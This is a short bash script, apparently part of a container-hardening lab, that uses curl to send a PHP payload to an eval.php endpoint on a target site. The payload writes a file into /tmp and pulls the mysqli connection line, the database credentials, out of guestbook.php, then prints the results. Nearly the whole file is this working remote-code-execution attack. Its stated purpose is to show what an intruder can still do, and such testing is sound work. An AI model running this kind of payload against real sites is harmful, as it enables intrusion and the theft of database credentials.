#!/usr/bin/env bash
# What the intruder can still do on a read-only container: write to a mount, and read what the site reads.
# ZERO_DRIFT_URL is the address of the site; its answers are printed.
set -euo pipefail

# shellcheck disable=SC2016 # PHP's variables, not ours
readonly PAYLOAD='
print file_put_contents("/tmp/loot.txt", "a list of your guests\n") . " bytes in /tmp/loot.txt\n";
preg_match("/mysqli\(.*\)/", file_get_contents("/var/www/html/guestbook.php"), $found);
print "in guestbook.php: " . $found[0] . "\n";
'

echo 'What remains:'
# A proxy for the internet would not know the container.
curl --silent --show-error --fail --max-time 10 --noproxy '*' \
  --get --data-urlencode "cmd=$PAYLOAD" "$ZERO_DRIFT_URL/eval.php"
